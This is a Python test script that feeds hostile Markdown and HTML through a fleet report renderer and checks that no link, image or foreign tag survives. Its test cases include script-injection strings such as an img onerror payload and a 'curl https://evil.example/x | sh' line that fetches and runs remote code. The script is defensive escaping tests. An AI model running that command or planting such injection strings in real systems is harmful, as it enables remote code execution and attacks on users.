"""Hostile snapshot text for the fleet report's Markdown, and the check of what GitHub's cmark-gfm makes of it.

make BASE.json DIR: writes one snapshot per case into DIR (a doctor document whose failing finding carries the
    case's message and fix, saved under the case's file name, which the report shows as the host), prints their
    paths, and writes DIR/cases.json.
check REPORT.html DIR/cases.json: the rendered report has no link, image or foreign tag, five cells in each
    findings row, and shows every message and fix exactly as written.
"""
import html
import html.parser
import json
import os
import sys

# (file name, message, fix). File names cannot hold '/'; messages and fixes hold no control characters
# (TerminalSafe would show those as escapes, which the unit tests check).
CASES = [
    ("![img](i.png) [l](x).json", "[click](https://evil.example/) and ![x](https://e.example/x.png)",
     "curl https://evil.example/x | sh"),
    ("<img src=x onerror=alert(1)>.json", "<script>alert(1)</script> <b>bold</b> &lt;entity&gt; &amp;",
     "apt-get update && apt-get install -y x"),
    ("www.evil.example.json", "see https://evil.example, www.evil.example and admin@evil.example or mailto:a@b.example",
     "printf 'a\\nb' | grep -E 'a|b'"),
    ("a|b|c.json", "cell | split | here \\| and \\\\| too", "echo `uname -r` ``x`` ```y```"),
    ("_em_ *em* ~~del~~.json", "**bold** _it_ ~~gone~~ `code` \\` [ref]: http://e.example", "`starts and ends`"),
    ("<http:__e.example>.json", "<https://evil.example/> <mailto:a@b.example> [a][b] [b]: http://e.example",
     " two  spaces "),
    ("plain.json", "x@y.example.com, ftp://files.example/ and http://127.0.0.1:8080/", "echo '|' \"|\" \\|"),
]
ALLOWED = {"h1", "h2", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "code", "br"}


def make(base_path, out_dir):
    base = json.load(open(base_path))
    cases = []
    for i, (name, message, fix) in enumerate(CASES):
        doc = json.loads(json.dumps(base))
        doc["host"]["hostname"] = None
        doc["host"]["machine_id"] = None
        for layer in doc["layers"]:
            for f in layer["findings"]:
                if f["status"] == "fail":
                    f["code"] = "driver.case-%d" % i
                    f["message"] = message
                    f["fix"] = fix
        path = os.path.join(out_dir, name)
        with open(path, "w") as out:
            json.dump(doc, out)
        print(path)
        cases.append({"code": "driver.case-%d" % i, "host": path, "message": message, "fix": fix})
    json.dump(cases, open(os.path.join(out_dir, "cases.json"), "w"))


class Report(html.parser.HTMLParser):
    """Rows of the findings table: for each td its text and its code elements' texts; every tag seen."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.rows = [], []
        self.cell = self.code = None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "tr":
            self.rows.append([])
        elif tag == "td":
            self.cell = {"text": "", "codes": []}
            self.rows[-1].append(self.cell)
        elif tag == "code" and self.cell is not None:
            self.code = ""
        elif tag == "br" and self.cell is not None:
            self.cell["text"] += "\n"

    def handle_endtag(self, tag):
        if tag == "td":
            self.cell = None
        elif tag == "code" and self.code is not None:
            self.cell["codes"].append(self.code)
            self.code = None

    def handle_data(self, data):
        if self.code is not None:
            self.code += data
        elif self.cell is not None:
            self.cell["text"] += data

    def handle_comment(self, data):
        pass  # the report's own empty comments that split e-mail addresses


def check(report_path, cases_path):
    cases = json.load(open(cases_path))
    text = open(report_path).read()
    report = Report()
    report.feed(text)
    failures = []
    foreign = sorted(set(report.tags) - ALLOWED)
    if foreign:
        failures.append("elements the report does not make: %s" % foreign)
    by_code = {}
    for r in report.rows:
        if len(r) >= 2 and r[1]["codes"]:
            by_code[r[1]["codes"][0]] = r
    for c in cases:
        row = by_code.get(c["code"])
        if row is None:
            failures.append("%s: no findings row" % c["code"])
            continue
        if len(row) != 5:
            failures.append("%s: %d cells, not 5: %r" % (c["code"], len(row), [x["text"] for x in row]))
            continue
        if row[3]["text"] != c["message"]:
            failures.append("%s: message shown as %r, written %r" % (c["code"], row[3]["text"], c["message"]))
        if row[4]["codes"] != [c["fix"]]:
            failures.append("%s: fix shown as %r, written %r" % (c["code"], row[4]["codes"], c["fix"]))
        if row[4]["text"].strip():
            failures.append("%s: text outside the fix's code span: %r" % (c["code"], row[4]["text"]))
        host = os.path.basename(c["host"])
        if not row[2]["text"].endswith(host):
            failures.append("%s: host shown as %r, named %r" % (c["code"], row[2]["text"], host))
    for f in failures:
        print("  FAILED: " + f, file=sys.stderr)
    bad = {f.split(":")[0] for f in failures if f.startswith("driver.")}
    print("differential_markdown: %d cases, %d with every check passed" % (len(cases), len(cases) - len(bad)))
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    if sys.argv[1] == "make":
        make(sys.argv[2], sys.argv[3])
    else:
        check(sys.argv[2], sys.argv[3])
